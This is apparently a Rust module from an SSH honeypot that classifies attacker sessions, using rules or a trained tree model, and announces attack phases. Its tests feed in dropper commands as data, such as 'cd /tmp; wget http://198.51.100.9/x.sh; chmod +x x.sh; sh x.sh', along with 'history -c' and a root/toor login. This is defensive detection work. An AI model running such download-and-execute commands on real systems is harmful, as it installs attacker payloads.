//! The session's attacker class, re-decided after each input line and announced as
//! `mirage.classification` when it changes.
//!
//! The session keeps its features ([`SessionFeatures`], bounded work per line). With a
//! trained classifier in the model set it took at start, it runs it on the feature vector
//! right after the line (a few microseconds of tree walks on the session's worker thread,
//! never an I/O thread), so the class is announced before the line's output and in input
//! order, also for the line that ends the session; a class, or a confidence that moved to
//! another tenth, is announced with `source: tree`, the set's version as `rule` and the
//! confidence. Without one, the R1–R8 rules decide, as counted by the features
//! (`source: rules`). A change of the session's attack phase ([`SessionFeatures::phase`]) is
//! announced the same way, with the phase in the event.

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::Arc;

use chrono::{DateTime, Utc};

use super::SessionActor;
use crate::events::EventKind;
use crate::models::analysis::{LineAnalysis, analyze};
use crate::models::classifier::Prediction;
use crate::models::context::Login;
use crate::models::features::{FEATURES, Protocol, SessionFeatures};
use crate::models::phases::Phase;
use crate::models::{Class, Models};

/// Most input lines a session's class is decided from; later lines leave it as it is.
pub const MAX_LINES: usize = 1000;
/// Most input bytes kept for classifying one session.
pub const MAX_BYTES: usize = 64 * 1024;

/// What the session should do after a line.
#[derive(Debug)]
pub(super) enum Next {
    /// Emit this event now.
    Announce(EventKind),
    /// Run the trained classifier on these features.
    Ask([f64; FEATURES]),
}

/// One session's input so far and the class last announced.
#[derive(Debug, Clone)]
pub(super) struct Classifier {
    started: DateTime<Utc>,
    features: SessionFeatures,
    /// The session's model set, when it holds a trained classifier.
    models: Option<Arc<Models>>,
    lines: usize,
    bytes: usize,
    /// The class last announced, with its confidence in tenths (the model's only).
    current: Option<(Class, Option<u8>)>,
    /// The attack phase last announced.
    phase: Option<Phase>,
}

impl Classifier {
    /// A session that started at `started` after `login` and has typed nothing yet,
    /// classified with `models` (the set it started with). The phase slots of its features
    /// are filtered by the set's phase model when its classifier was trained with them.
    pub(super) fn new(started: DateTime<Utc>, models: Arc<Models>, login: &Login) -> Classifier {
        let protocol = Protocol {
            client_version: login.client.clone(),
            // What the corpus records: `none` when the login took no password.
            auth: login
                .password
                .as_ref()
                .map(|p| if p.is_empty() { "none" } else { "password" }.to_owned()),
            username: login.username.clone(),
        };
        let mut features = SessionFeatures::new(protocol);
        if let (Some(phases), Some(classifier)) = (&models.phases, &models.classifier)
            && classifier.phases
        {
            features = features.with_phases(phases.clone());
        }
        Classifier {
            started,
            features,
            models: models.classifier.is_some().then_some(models),
            lines: 0,
            bytes: 0,
            current: None,
            phase: None,
        }
    }

    /// Takes one input line typed at `at`, analysed ([`analyze`]): what to do about the
    /// session's class. `None` when
    /// nothing changed, or for blank lines and lines beyond [`MAX_LINES`] or [`MAX_BYTES`].
    pub(super) fn observe(
        &mut self,
        at: DateTime<Utc>,
        line: &str,
        analysis: &LineAnalysis,
    ) -> Option<Next> {
        if line.trim().is_empty()
            || self.lines >= MAX_LINES
            || self.bytes.saturating_add(line.len()) > MAX_BYTES
        {
            return None;
        }
        let seconds = (at - self.started)
            .to_std()
            .map_or(0.0, |elapsed| elapsed.as_secs_f64());
        self.features.push_analyzed(Some(seconds), line, analysis);
        self.lines += 1;
        self.bytes += line.len();
        match &self.models {
            Some(_) => Some(Next::Ask(self.vector())),
            None => self.rules().map(Next::Announce),
        }
    }

    fn vector(&self) -> [f64; FEATURES] {
        self.features.vector(None)
    }

    /// The rules' class, as an event when it or the attack phase changed.
    pub(super) fn rules(&mut self) -> Option<EventKind> {
        let class = self.features.rule_class();
        let phase = self.features.phase();
        if self.current.is_some_and(|(before, _)| before == class) && self.phase == phase {
            return None;
        }
        self.current = Some((class, None));
        self.phase = phase;
        Some(EventKind::Classification {
            class: class.as_str().to_owned(),
            rule: class.rule().to_owned(),
            source: "rules".to_owned(),
            confidence: None,
            phase: phase.map(|p| p.as_str().to_owned()),
        })
    }

    /// The model's answer, as an event when the class, its confidence (in tenths) or the
    /// attack phase changed.
    pub(super) fn answer(&mut self, prediction: Prediction) -> Option<EventKind> {
        let tenths = (prediction.confidence.clamp(0.0, 1.0) * 10.0).floor() as u8;
        let now = (prediction.class, Some(tenths));
        let phase = self.features.phase();
        if self.current == Some(now) && self.phase == phase {
            return None;
        }
        self.current = Some(now);
        self.phase = phase;
        Some(EventKind::Classification {
            class: prediction.class.as_str().to_owned(),
            rule: self
                .models
                .as_ref()
                .map_or("none", |m| m.version())
                .to_owned(),
            source: "tree".to_owned(),
            confidence: Some((prediction.confidence * 1000.0).round() / 1000.0),
            phase: phase.map(|p| p.as_str().to_owned()),
        })
    }
}

impl Classifier {
    /// The class and attack phase last announced (`None` before they are known).
    pub(super) fn context(&self) -> (Option<Class>, Option<Phase>) {
        (self.current.map(|(class, _)| class), self.phase)
    }

    /// The trained classifier's class for `features`, or `None` without one.
    fn predict(&self, features: &[f64; FEATURES]) -> Option<Prediction> {
        let classifier = self.models.as_ref()?.classifier.as_ref()?;
        Some(classifier.predict(features))
    }
}

impl SessionActor {
    /// Feeds `line` to the next-command predictor and the classifier
    /// and answers the predictor's `mirage.prediction` events, under `catch_unwind`: a panic
    /// in either model is counted as `mirage_actor_restarts_total{actor="classifier"}`, that
    /// line's model update is skipped (whatever the models announced before it stays
    /// announced), and the session goes on; the line itself still runs.
    pub(super) fn model_line(&mut self, line: &str) -> Vec<EventKind> {
        let now = self.deps.clock.now();
        let result = catch_unwind(AssertUnwindSafe(|| {
            if let Some(trigger) = self.deps.panic_on_classify.as_deref()
                && line.contains(trigger)
            {
                panic!("fault injection: classified input contains {trigger:?}");
            }
            // Split and normalized once for both models (and once for all the thread's
            // sessions that typed the same line lately).
            let analysis = analyze(line);
            let predictions = self
                .predictor
                .observe(&analysis.normalized, now, &self.deps.metrics);
            self.classify_line(line, &analysis);
            predictions
        }));
        result.unwrap_or_else(|_| {
            tracing::error!(session = %self.origin.session, "Classification or prediction panicked; the line's model update is skipped.");
            self.deps
                .metrics
                .actor_restarts_total
                .with_label_values(&["classifier"])
                .inc();
            Vec::new()
        })
    }

    /// Re-decides the session's class after `line` (by the trained classifier, or by the
    /// rules without one) and announces a change.
    pub(super) fn classify_line(&mut self, line: &str, analysis: &LineAnalysis) {
        let kind = match self
            .classifier
            .observe(self.deps.clock.now(), line, analysis)
        {
            None => None,
            Some(Next::Announce(kind)) => Some(kind),
            Some(Next::Ask(features)) => match self.classifier.predict(&features) {
                Some(prediction) => self.classifier.answer(prediction),
                None => self.classifier.rules(),
            },
        };
        if let Some(kind) = kind {
            self.emit(kind);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeDelta;

    impl Classifier {
        fn observe_line(&mut self, at: DateTime<Utc>, line: &str) -> Option<Next> {
            self.observe(at, line, &crate::models::analysis::LineAnalysis::of(line))
        }
    }

    fn class_of(next: Option<Next>) -> Option<String> {
        match next {
            Some(Next::Announce(EventKind::Classification { class, source, .. })) => {
                assert_eq!(source, "rules");
                Some(class)
            }
            _ => None,
        }
    }

    #[test]
    fn a_class_is_announced_when_first_known_and_again_only_when_it_changes() {
        let start = Utc::now();
        let mut c = Classifier::new(start, Arc::default(), &Login::default());
        let at = |s| start + TimeDelta::seconds(s);
        assert_eq!(
            class_of(c.observe_line(at(1), "uname -a")).as_deref(),
            Some("recon_fingerprint")
        );
        assert!(c.observe_line(at(1), "   ").is_none());
        assert!(c.observe_line(at(2), "cat /proc/cpuinfo").is_none());
        assert_eq!(
            class_of(c.observe_line(at(3), "cd /tmp; wget http://198.51.100.9/x.sh")).as_deref(),
            Some("malware_dropper")
        );
        assert!(c.observe_line(at(4), "chmod +x x.sh; ./x.sh").is_none());
    }

    #[test]
    fn a_phase_change_is_announced_with_the_class_unchanged() {
        let start = Utc::now();
        let mut c = Classifier::new(start, Arc::default(), &Login::default());
        let phase_of = |next: Option<Next>| match next {
            Some(Next::Announce(EventKind::Classification { class, phase, .. })) => {
                Some((class, phase))
            }
            _ => None,
        };
        let first = phase_of(c.observe_line(start, "uname -a")).unwrap();
        assert_eq!(first.1.as_deref(), Some("recon"));
        let dropped = phase_of(c.observe_line(start, "cd /tmp; wget http://198.51.100.9/x"));
        assert_eq!(
            dropped,
            Some(("malware_dropper".into(), Some("download_execute".into())))
        );
        assert!(
            c.observe_line(start, "chmod +x x; ./x").is_none(),
            "same phase"
        );
        let cleaned = phase_of(c.observe_line(start, "history -c")).unwrap();
        assert_eq!(
            cleaned,
            ("malware_dropper".into(), Some("cleanup".into())),
            "the class stays, the phase moved on"
        );
        assert_eq!(
            c.context(),
            (
                Some(Class::MalwareDropper),
                Some(crate::models::phases::Phase::Cleanup)
            )
        );
    }

    #[test]
    fn input_beyond_the_bounds_is_not_kept() {
        let start = Utc::now();
        let mut c = Classifier::new(start, Arc::default(), &Login::default());
        for _ in 0..MAX_LINES {
            c.observe_line(start, "uname");
        }
        assert!(
            c.observe_line(start, "wget http://198.51.100.9/x")
                .is_none()
        );
        let mut c = Classifier::new(start, Arc::default(), &Login::default());
        assert!(c.observe_line(start, &"x".repeat(MAX_BYTES + 1)).is_none());
        assert_eq!(c.lines, 0);
    }

    #[test]
    fn a_model_answer_is_announced_when_class_or_tenth_of_confidence_changes() {
        let mut c = Classifier::new(Utc::now(), Arc::default(), &Login::default());
        let p = |class, confidence| Prediction { class, confidence };
        let Some(EventKind::Classification {
            class,
            source,
            confidence,
            ..
        }) = c.answer(p(Class::MalwareDropper, 0.62))
        else {
            panic!("the first answer is announced");
        };
        assert_eq!(
            (class.as_str(), source.as_str()),
            ("malware_dropper", "tree")
        );
        assert_eq!(confidence, Some(0.62));
        assert!(
            c.answer(p(Class::MalwareDropper, 0.68)).is_none(),
            "same tenth"
        );
        assert!(
            c.answer(p(Class::MalwareDropper, 0.71)).is_some(),
            "next tenth"
        );
        assert!(
            c.answer(p(Class::ReconFingerprint, 0.71)).is_some(),
            "other class"
        );
    }

    /// A classifier that knows droppers (they fetch a file) from recon bots (they only look).
    fn dropper_models() -> Models {
        use crate::models::classifier::{ClassifierModel, Example, TrainParams};
        let example = |class, lines: &[&str]| Example {
            lines: lines
                .iter()
                .enumerate()
                .map(|(i, l)| (Some(i as f64), (*l).to_owned()))
                .collect(),
            protocol: Protocol::default(),
            class,
        };
        let mut examples = Vec::new();
        for _ in 0..10 {
            examples.push(example(
                Class::MalwareDropper,
                &[
                    "uname -a",
                    "cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
                ],
            ));
            examples.push(example(
                Class::ReconFingerprint,
                &["uname -a", "cat /proc/cpuinfo", "free -m"],
            ));
        }
        let classifier = ClassifierModel::train(&examples, &TrainParams::default(), None).unwrap();
        Models {
            classifier: Some(classifier),
            ..Models::default()
        }
    }

    #[test]
    fn a_replayed_dropper_is_classified_by_the_tree_before_its_last_line_ends_it() {
        use crate::config::AuthConfig;
        use crate::models::ModelHandle;
        use crate::sim::runner::{RunOptions, run_blocking};
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("dropper.yaml");
        // The class becomes known on the line that ends the session: it must still be there.
        let scenario = "version: 1\nname: dropper\nattacker:\n  credentials: [{username: root, password: toor}]\n\
             steps:\n\
             \x20 - input: uname -a\n\
             \x20 - input: cd /var/tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh; sh x.sh; exit\n    delay: 1\n\
             expect:\n  class: malware_dropper\n  session_open: false\n  events:\n\
             \x20   - eventid: mirage.classification\n      fields: {class: malware_dropper, source: tree}\n";
        std::fs::write(&file, scenario).unwrap();
        let options = RunOptions {
            jobs: 1,
            workers: 1,
            models: ModelHandle::new(dropper_models()),
            ..RunOptions::default()
        };
        for _ in 0..20 {
            let (reports, _) = run_blocking(
                std::slice::from_ref(&file),
                &AuthConfig::default(),
                &options,
                |_| {},
            )
            .unwrap();
            assert!(reports[0].passed, "{}", reports[0].table());
        }
    }
}
